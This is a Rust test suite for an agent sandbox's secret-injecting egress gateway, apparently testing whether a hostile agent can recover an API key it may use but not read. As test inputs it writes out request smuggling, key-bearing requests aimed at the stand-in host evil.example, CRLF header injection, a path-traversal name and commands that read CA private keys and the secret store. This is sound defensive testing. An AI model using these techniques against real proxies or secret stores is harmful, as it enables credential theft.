//! Secrets against a hostile agent (docs/agents.md, "Secrets the agent can
//! use but not read"): from inside a real `local` sandbox, raw requests
//! through the egress gateway to an HTTPS origin on the host that reflects
//! the key in every way a careless API might (secrets/hostile_origin.py).
//! What counts is on the host: what the origin got, and what came back to
//! the sandbox once the agent undid every framing and encoding of it
//! (secrets/agent.py).

mod common;

use std::io::Write;
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::time::Duration;

use common::Env;
use common::tls::{Origin, tls};

const HOST: &str = "api.secret.test";

/// A running agentd whose sandbox `sec` has a secret for [`HOST`] in
/// `x-api-key`, the origin it is for, and the agent's script inside.
struct Setup {
    env: Env,
    origin: Origin,
    value: String,
    placeholder: String,
}

fn setup() -> Setup {
    setup_logging("debug,hyper_util=info,hyper=info")
}

/// [`setup`] with agentd's `AGENTD_LOG`.
fn setup_logging(log: &str) -> Setup {
    let mut env = Env::bus_only();
    let certs = tls(env.tmp.path(), &[HOST, "other.secret.test"]);
    env.agentd_env = vec![("AGENTD_LOG".into(), Some(log.into()))];
    let origin = Origin::for_secrets(
        &mut env,
        &certs,
        &[HOST, "other.secret.test"],
        (
            "hostile_origin.py",
            include_str!("secrets/hostile_origin.py"),
        ),
    );
    let agent = env.tmp.path().join("agent.py");
    std::fs::write(&agent, include_str!("secrets/agent.py")).unwrap();
    env.ok(&["cp", agent.to_str().unwrap(), "sec:/tmp/agent.py"]);
    // A '/' and a '+' as in many keys (base64).
    let value = format!("sk-test/{}+x", uuid::Uuid::new_v4().simple());
    set_secret(&env, HOST, "x-api-key", &value);
    let placeholder = env.sh("sec", "printf %s \"$ANTHROPIC_API_KEY\"");
    assert!(placeholder.starts_with("keystone-placeholder-"));
    Setup {
        env,
        origin,
        value,
        placeholder,
    }
}

fn set_secret(env: &Env, host: &str, header: &str, value: &str) {
    let out = env.ctl_with_stdin(
        &[
            "secret",
            "set",
            "sec",
            "ANTHROPIC_API_KEY",
            "--host",
            host,
            "--header",
            header,
        ],
        value.as_bytes(),
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

impl Setup {
    /// The agent's `request` (agent.py's escapes) to `host` (CONNECT, or
    /// SOCKS5 with `--socks` in `opts`): what it printed.
    fn agent(&self, opts: &[&str], host: &str, request: &str) -> String {
        let port = self.origin.port.to_string();
        let mut args = vec!["exec", "sec", "--", "python3", "/tmp/agent.py"];
        args.extend_from_slice(opts);
        args.extend_from_slice(&[host, &port, request]);
        let out = self.env.ok(&args);
        eprintln!("=== {host} {request}\n{out}");
        out
    }

    /// A request head for [`HOST`] with `lines` (agent.py's escapes).
    fn head(&self, first: &str, lines: &str) -> String {
        format!(
            "{first} HTTP/1.1\\r\\nHost: {HOST}:{}\\r\\n{lines}\\r\\n",
            self.origin.port
        )
    }

    /// The agent's output must not hold the value (nor the start of it).
    fn masked(&self, what: &str, out: &str) {
        let start = &self.value[..16];
        assert!(
            !out.contains(&self.value) && !out.contains(start),
            "{what}: the value came back to the sandbox:\n{out}"
        );
    }

    /// Nothing of agentd's but its secret store holds the value: no log
    /// (agentd's, the egress log), no registry or history.
    fn nowhere_else(&self) {
        let log = self.env.log();
        // As text, or as the bytes of a D-Bus `ay`.
        let bytes: Vec<_> = self.value.bytes().map(|b| b.to_string()).collect();
        assert!(
            !log.contains(&self.value) && !log.contains(&bytes.join(", ")),
            "agentd logged it"
        );
        let store = self.env.state_dir.join("secrets");
        let leaks = common::files_with(&self.env.state_dir, self.value.as_bytes(), &store);
        assert!(leaks.is_empty(), "{leaks:?}");
    }

    /// The requests the origin got with the value anywhere in them.
    fn with_value(&self) -> Vec<serde_json::Value> {
        self.origin
            .requests()
            .into_iter()
            .filter(|r| r.to_string().contains(&self.value))
            .collect()
    }
}

/// What came back, as agent.py printed it.
fn raw(out: &str) -> &str {
    out.lines()
        .find_map(|l| l.strip_prefix("RAW: "))
        .unwrap_or_default()
}

#[test]
fn reflections_in_heads_pipelined_continued_and_head_answers_are_masked() {
    let s = setup();
    let key = "x-api-key: {PH}\\r\\n";
    // In a response header.
    let out = s.agent(
        &[],
        HOST,
        &s.head("GET /header", &format!("{key}Connection: close\\r\\n")),
    );
    assert!(out.contains("X-Echo: ****"), "{out}");
    s.masked("a response header", &out);
    // Two requests before reading either answer; the name in other cases,
    // twice.
    let req = format!(
        "{}{}",
        s.head("GET /", key),
        s.head(
            "GET /",
            "X-API-KEY: {PH}\\r\\nx-Api-Key: {PH}\\r\\nConnection: close\\r\\n"
        )
    );
    let out = s.agent(&[], HOST, &req);
    assert_eq!(raw(&out).matches("HTTP/1.1 200").count(), 2, "{out}");
    s.masked("pipelined requests", &out);
    // After a 100 Continue.
    let out = s.agent(
        &[],
        HOST,
        &format!(
            "{}{{PAUSE}}abcd",
            s.head(
                "POST /",
                &format!(
                    "{key}Expect: 100-continue\\r\\nContent-Length: 4\\r\\nConnection: close\\r\\n"
                )
            )
        ),
    );
    assert!(out.contains("100 Continue"), "{out}");
    s.masked("after 100 Continue", &out);
    // A HEAD answered with a body all the same, then another request.
    let out = s.agent(
        &[],
        HOST,
        &format!(
            "{}{{PAUSE}}{}",
            s.head("HEAD /", key),
            s.head("GET /", "Connection: close\\r\\n")
        ),
    );
    s.masked("a HEAD answered with a body", &out);
    // The placeholder in the path is not swapped; a folded header is not
    // passed on at all.
    s.agent(
        &[],
        HOST,
        &s.head("GET /?k={PH}", &format!("{key}Connection: close\\r\\n")),
    );
    let before = s.origin.requests().len();
    let out = s.agent(
        &[],
        HOST,
        &s.head(
            "GET /",
            "x-api-key:\\r\\n {PH}\\r\\nConnection: close\\r\\n",
        ),
    );
    s.masked("a folded header", &out);
    let got = s.origin.requests();
    assert_eq!(got.len(), before, "{got:#?}");
    let path = got
        .iter()
        .find(|r| r["path"].as_str().unwrap().starts_with("/?k="));
    assert_eq!(
        path.unwrap()["path"].as_str().unwrap(),
        format!("/?k={}", s.placeholder)
    );
    // Every request with the value went to the host the secret is for.
    for r in s.with_value() {
        assert_eq!(r["sni"], HOST, "{r}");
    }
}

#[test]
fn a_value_split_across_chunks_is_masked() {
    let s = setup();
    let request = s.head(
        "GET /chunked",
        "x-api-key: {PH}\\r\\nConnection: close\\r\\n",
    );
    let out = s.agent(&[], HOST, &request);
    assert!(out.contains("JOINED: HTTP/1.1 200"), "{out}");
    s.masked("an answer in chunks", &out);
    // Values of 36 to 49 bytes, echoed after "echo " in chunks of 7: the
    // value's end falls at every place in a chunk. Not one byte of any
    // comes back: the whole value starred, no run of its bytes anywhere
    // (a 40-byte value came back with its last 10 bytes).
    let hex = format!(
        "{}{}",
        uuid::Uuid::new_v4().simple(),
        uuid::Uuid::new_v4().simple()
    );
    for len in 36..50 {
        let value = format!("sk-test/{}+x", &hex[..len - 10]);
        set_secret(&s.env, HOST, "x-api-key", &value);
        let out = s.agent(&[], HOST, &request);
        let stars = "*".repeat(value.len());
        assert!(
            out.contains("JOINED: HTTP/1.1 200") && out.contains(&format!("echo {stars}\\r\\n")),
            "a {len}-byte value came back in part: {out}"
        );
        for run in value.as_bytes().windows(6) {
            let run = std::str::from_utf8(run).unwrap();
            assert!(!out.contains(run), "'{run}' of the value came back: {out}");
        }
    }
}

#[test]
fn an_upgrade_the_host_does_not_accept_leaves_the_connection_checked() {
    let s = setup();
    // The host answers 200, not 101: the agent's next request, for another
    // host, must not pass as the raw bytes of an upgraded connection.
    let upgrade = "x-api-key: {PH}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n";
    let evil = "GET /evil HTTP/1.1\\r\\nHost: evil.example\\r\\nx-api-key: {PH}\\r\\n\\r\\n";
    let out = s.agent(&[], HOST, &format!("{}{evil}", s.head("GET /", upgrade)));
    assert!(raw(&out).starts_with("HTTP/1.1 200"), "{out}");
    s.masked("an upgrade answered 200", &out);
    let got = s.origin.requests();
    assert!(
        got.iter().all(|r| r["path"] != "/evil"),
        "it reached the host: {got:#?}"
    );
    assert_eq!(s.with_value().len(), 1, "{got:#?}");
}

#[test]
fn a_compressed_answer_never_reaches_the_sandbox() {
    let s = setup();
    // Compressed unasked.
    let out = s.agent(
        &[],
        HOST,
        &s.head("GET /gzip", "x-api-key: {PH}\\r\\nConnection: close\\r\\n"),
    );
    s.masked("a gzip body", &out);
    // A compressing transfer-coding, asked for by the agent.
    let out = s.agent(
        &[],
        HOST,
        &s.head(
            "GET /te",
            "x-api-key: {PH}\\r\\nTE: gzip\\r\\nConnection: close\\r\\n",
        ),
    );
    s.masked("a gzip transfer-coding", &out);
}

#[test]
fn a_websocket_keeps_its_head_and_is_masked_uncompressed() {
    let s = setup();
    let ws = "x-api-key: {PH}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\
              Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n";
    let out = s.agent(&[], HOST, &s.head("GET /ws", ws));
    // The whole 101 head, then the frame (masked).
    assert!(
        out.contains("Connection: Upgrade\\r\\n\\r\\n\\x81"),
        "the 101 head lost its end: {out}"
    );
    s.masked("a WebSocket frame", &out);
    // Up to the last byte, though the host closes without close_notify.
    assert!(raw(&out).ends_with(&".".repeat(100)), "{out}");
    let out = s.agent(
        &[],
        HOST,
        &s.head(
            "GET /ws",
            &format!("{ws}Sec-WebSocket-Extensions: permessage-deflate\\r\\n"),
        ),
    );
    s.masked("a compressed WebSocket frame", &out);
}

#[test]
fn a_json_escaped_reflection_is_masked() {
    let s = setup();
    let out = s.agent(
        &[],
        HOST,
        &s.head("GET /json", "x-api-key: {PH}\\r\\nConnection: close\\r\\n"),
    );
    assert!(out.contains("{\"key\":"), "{out}");
    s.masked("JSON with '/' escaped", &out);
}

#[test]
fn the_value_goes_to_its_host_only() {
    let s = setup();
    let port = s.origin.port;
    // Another name in Host, or in an absolute request target, on the
    // secret's host's connection (a shared front end routes by them).
    s.agent(
        &[],
        HOST,
        "GET / HTTP/1.1\\r\\nHost: evil.example\\r\\nx-api-key: {PH}\\r\\nConnection: close\\r\\n\\r\\n",
    );
    s.agent(
        &[],
        HOST,
        &format!(
            "GET https://evil.example/ HTTP/1.1\\r\\nHost: {HOST}:{port}\\r\\nx-api-key: {{PH}}\\r\\nConnection: close\\r\\n\\r\\n"
        ),
    );
    // No Host at all (the server's default site).
    s.agent(
        &[],
        HOST,
        "GET / HTTP/1.1\\r\\nx-api-key: {PH}\\r\\nConnection: close\\r\\n\\r\\n",
    );
    // Other spellings and routes to the same address: no swap.
    let plain =
        "GET / HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: {PH}\\r\\nConnection: close\\r\\n\\r\\n";
    for host in ["127.0.0.1", "api.secret.test.", "other.secret.test"] {
        s.agent(&[], host, plain);
    }
    s.agent(&["--socks"], HOST, plain);
    // The secret's host in CONNECT, another name in SNI.
    s.agent(
        &["--sni", "other.secret.test"],
        HOST,
        &s.head("GET /", "x-api-key: {PH}\\r\\nConnection: close\\r\\n"),
    );
    let bad: Vec<_> = s
        .with_value()
        .into_iter()
        .filter(|r| {
            let host = r["host"].as_str().unwrap_or("");
            host != format!("{HOST}:{port}")
                || !r["path"].as_str().unwrap_or("").starts_with('/')
                || r["sni"] != HOST
        })
        .collect();
    assert!(bad.is_empty(), "the value went elsewhere: {bad:#?}");
}

#[test]
fn a_smuggled_request_never_puts_the_value_in_a_body() {
    let s = setup();
    let port = s.origin.port;
    // The gateway frames the first body by Transfer-Encoding, the origin
    // by Content-Length: what the gateway takes for a second request (and
    // swaps in) is the rest of the first one's body to the origin.
    let second = format!(
        "GET / HTTP/1.1\r\nHost: {HOST}:{port}\r\nx-api-key: {}\r\n\r\n",
        s.value
    );
    let length = "0\r\n\r\n".len() + second.len();
    let req = format!(
        "POST /store HTTP/1.1\\r\\nHost: {HOST}:{port}\\r\\nContent-Length: {length}\\r\\n\
         Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n\
         GET / HTTP/1.1\\r\\nHost: {HOST}:{port}\\r\\nx-api-key: {{PH}}\\r\\n\\r\\n"
    );
    let out = s.agent(&[], HOST, &req);
    s.masked("a smuggled request", &out);
    let bodies: Vec<_> = s
        .origin
        .requests()
        .into_iter()
        .filter(|r| r["body"].as_str().unwrap_or("").contains(&s.value))
        .collect();
    assert!(bodies.is_empty(), "the value in a body: {bodies:#?}");
}

/// agentd's open files and resident memory (KiB).
fn usage(pid: i32) -> (usize, u64) {
    let fds = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .count();
    let rss = std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap();
    (fds, rss)
}

#[test]
fn many_slow_and_large_exchanges_leave_agentd_as_it_was() {
    let s = setup();
    let pid = s.env.agentd_pid();
    let port = s.origin.port.to_string();
    s.agent(&[], HOST, &s.head("GET /", "Connection: close\\r\\n"));
    let (fds, rss) = usage(pid);
    // 200 tunnels at once, each stopped in the middle of a head.
    let mut hold = s
        .env
        .ctl_cmd(&[
            "exec",
            "sec",
            "--",
            "python3",
            "/tmp/agent.py",
            "--hold",
            "200",
        ])
        .args([
            HOST,
            &port,
            "GET / HTTP/1.1\\r\\nHost: api.secret.test\\r\\nx-api-key: {PH}",
        ])
        .spawn()
        .unwrap();
    let mut peak = (0, 0);
    common::wait_for("200 tunnels in agentd", Duration::from_secs(60), || {
        let now = usage(pid);
        peak = (peak.0.max(now.0), peak.1.max(now.1));
        now.0 >= fds + 400
    });
    assert!(hold.wait().unwrap().success());
    // A head larger than the gateway takes, and one of too many lines: the
    // connection ends, nothing reaches the origin.
    let before = s.origin.requests().len();
    let huge = format!("X-Pad: {}\\r\\n", "a".repeat(20_000));
    let many = "X-Pad: a\\r\\n".repeat(200);
    for lines in [huge, many] {
        let out = s.agent(
            &[],
            HOST,
            &s.head("GET /", &format!("x-api-key: {{PH}}\\r\\n{lines}")),
        );
        assert_eq!(raw(&out), "", "{out}");
    }
    assert_eq!(s.origin.requests().len(), before);
    // A large answer in chunks, every 8 bytes of it the start of the value.
    let size = s.env.sh(
        "sec",
        &format!(
            "curl -sS --max-time 60 -o /dev/null -w '%{{size_download}}' \
             -H \"x-api-key: $ANTHROPIC_API_KEY\" https://{HOST}:{port}/big"
        ),
    );
    assert_eq!(size.trim(), (16u64 << 20).to_string());
    common::wait_for("the tunnels to end", Duration::from_secs(20), || {
        usage(pid).0 <= fds + 4
    });
    let after = usage(pid);
    eprintln!("agentd: {fds} fds {rss} KiB; peak {peak:?}; after {after:?}");
    assert!(
        after.1 < rss + 64 * 1024,
        "agentd grew: {rss} KiB, then {after:?}"
    );
    s.nowhere_else();
}

/// A host that shows part of a key (an error message that shortens it):
/// every run of 12 of its bytes is masked, and padding the header cannot
/// move the value out of that (only `<placeholder>` or `<word>
/// <placeholder>` is swapped).
#[test]
fn a_partial_reflection_is_masked() {
    let s = setup();
    let out = s.agent(
        &[],
        HOST,
        &s.head(
            "GET /prefix",
            "x-api-key: {PH}\\r\\nConnection: close\\r\\n",
        ),
    );
    assert!(out.contains("unknown key"), "{out}");
    assert!(!out.contains(&s.value[..12]), "{out}");
}

/// `busctl call` of the sandbox's Secrets `method` as `uid`; whether it
/// succeeded, and what it printed.
fn bus(env: &Env, uid: Option<u32>, method: &str, args: &[&str]) -> (bool, String) {
    let out = env.busctl_as(uid, "call", ("sec", "Secrets", method), args);
    (
        out.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

#[test]
fn the_store_the_ca_and_the_bus_keep_the_value_to_agentd() {
    use std::os::unix::fs::PermissionsExt;
    // Everything agentd and its libraries log.
    let s = setup_logging("trace");
    let state = &s.env.state_dir;
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let store = state.join("secrets");
    assert_eq!(mode(&store), 0o700);
    assert_eq!(mode(&store.join("sec.json")), 0o600);
    assert_eq!(mode(&store.join("sec.ca.key")), 0o600);
    let kept = std::fs::read(store.join("sec.json")).unwrap();
    // What the sandbox is shown of its CA: certificates only.
    let mut shown: Vec<_> = std::fs::read_dir(state.join("guest/ca"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().into_string().unwrap())
        .collect();
    shown.sort();
    let id = s.env.status("sec")["id"].as_str().unwrap().to_owned();
    assert_eq!(shown, [format!("{id}.ca.pem"), format!("{id}.pem")]);
    let inside = s.env.sh(
        "sec",
        &format!(
            "cat \"$NODE_EXTRA_CA_CERTS\" \"$SSL_CERT_FILE\" | grep -c PRIVATE; \
             cat /run/keystone/ca/*.key {}/sec.json {}/sec.ca.key 2>&1 | head -c 300; true",
            store.display(),
            store.display()
        ),
    );
    assert!(
        !inside.contains(&s.value) && !inside.contains("BEGIN"),
        "{inside}"
    );
    assert!(inside.starts_with("0\n"), "{inside}");
    if common::is_root() {
        // Another uid reads none of it, and gets nowhere on the bus.
        let nobody = 65534;
        for f in ["sec.json", "sec.ca.key"] {
            let out = Command::new("cat")
                .arg(store.join(f))
                .uid(nobody)
                .gid(nobody)
                .output()
                .unwrap();
            assert!(!out.status.success() && out.stdout.is_empty(), "{f}");
        }
        let value = [
            "sssbay",
            "ANTHROPIC_API_KEY",
            "evil.example",
            "x-api-key",
            "false",
            "1",
            "65",
        ];
        for (method, args) in [
            ("Set", &value[..]),
            ("List", &[][..]),
            ("Remove", &["s", "ANTHROPIC_API_KEY"][..]),
        ] {
            let (ok, out) = bus(&s.env, Some(nobody), method, args);
            assert!(!ok, "{method} as another uid: {out}");
        }
    }
    // The owner's own calls with bad values change nothing.
    let mut big = vec![
        "sssbay",
        "VAR",
        "api.secret.test",
        "x-api-key",
        "false",
        "16385",
    ];
    big.extend(std::iter::repeat_n("65", 16385));
    let bad: [&[&str]; 5] = [
        &big,
        &[
            "sssbay",
            "VAR",
            "api.secret.test",
            "x-api-key",
            "false",
            "4",
            "97",
            "13",
            "10",
            "98",
        ],
        &[
            "sssbay",
            "VAR",
            "api.secret.test",
            "x-api-key",
            "false",
            "2",
            "97",
            "0",
        ],
        &[
            "sssbay",
            "../../x",
            "api.secret.test",
            "x-api-key",
            "false",
            "1",
            "97",
        ],
        &[
            "sssbay",
            "VAR",
            "api.secret.test",
            "x-api-key\r\nx",
            "false",
            "1",
            "97",
        ],
    ];
    for args in bad {
        let (ok, out) = bus(&s.env, None, "Set", args);
        assert!(!ok, "{:?}: {out}", &args[..args.len().min(6)]);
    }
    assert_eq!(std::fs::read(store.join("sec.json")).unwrap(), kept);
    // A request, for the gateway's own logging of it.
    s.agent(
        &[],
        HOST,
        &s.head("GET /", "x-api-key: {PH}\\r\\nConnection: close\\r\\n"),
    );
    s.nowhere_else();
    // Destroyed: nothing of its secrets or CA is left.
    s.env.ok(&["stop", "sec"]);
    s.env.ok(&["destroy", "--force", "sec"]);
    let left: Vec<_> = std::fs::read_dir(&store)
        .unwrap()
        .chain(std::fs::read_dir(state.join("guest/ca")).unwrap())
        .flatten()
        .map(|e| e.path())
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn secrets_set_at_once_are_all_kept() {
    let env = Env::running("sec", &[]);
    let sets: Vec<_> = (0..8)
        .map(|i| {
            let mut c = env
                .ctl_cmd(&[
                    "secret",
                    "set",
                    "sec",
                    &format!("KEY_{i}"),
                    "--host",
                    &format!("api{i}.example.com"),
                    "--header",
                    "x-api-key",
                ])
                .stdin(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap();
            c.stdin
                .take()
                .unwrap()
                .write_all(format!("value-{i}").as_bytes())
                .unwrap();
            c
        })
        .collect();
    let errors: Vec<_> = sets
        .into_iter()
        .map(|c| c.wait_with_output().unwrap())
        .filter(|o| !o.status.success())
        .map(|o| String::from_utf8_lossy(&o.stderr).into_owned())
        .collect();
    let list: Vec<serde_json::Value> =
        serde_json::from_str(&env.ok(&["secret", "list", "sec", "--json"])).unwrap();
    assert!(errors.is_empty() && list.len() == 8, "{errors:?} {list:?}");
    // One CA, whose certificate is the one the sandbox trusts.
    let store = env.state_dir.join("secrets");
    let id = env.status("sec")["id"].as_str().unwrap().to_owned();
    let shown =
        std::fs::read_to_string(env.state_dir.join(format!("guest/ca/{id}.ca.pem"))).unwrap();
    assert_eq!(
        std::fs::read_to_string(store.join("sec.ca.pem")).unwrap(),
        shown
    );
}

#[test]
fn another_owners_sandbox_cannot_list_whose_sandboxes_have_secrets() {
    if !common::is_root() {
        eprintln!("skipped: needs root to act as another uid");
        return;
    }
    let s = setup();
    let nobody = 65534;
    let repo = s.env.repo("theirs");
    let mut stack = vec![repo.clone()];
    while let Some(p) = stack.pop() {
        std::os::unix::fs::lchown(&p, Some(nobody), Some(nobody)).unwrap();
        if p.is_dir() && !p.is_symlink() {
            stack.extend(std::fs::read_dir(&p).unwrap().flatten().map(|e| e.path()));
        }
    }
    let as_nobody = |args: &[&str]| {
        let out = s.env.ctl_as(Some(nobody), args);
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    as_nobody(&["create", repo.to_str().unwrap()]);
    as_nobody(&["start", "theirs"]);
    let seen = as_nobody(&[
        "exec",
        "theirs",
        "--",
        "sh",
        "-c",
        "ls /run/keystone/ca 2>&1; true",
    ]);
    assert!(!seen.contains("sec."), "{seen}");
    // The sandbox with the secret still reads its own CA by name.
    let own = s.env.sh(
        "sec",
        "grep -c 'BEGIN CERTIFICATE' \"$NODE_EXTRA_CA_CERTS\"",
    );
    assert_eq!(own.trim(), "1");
}
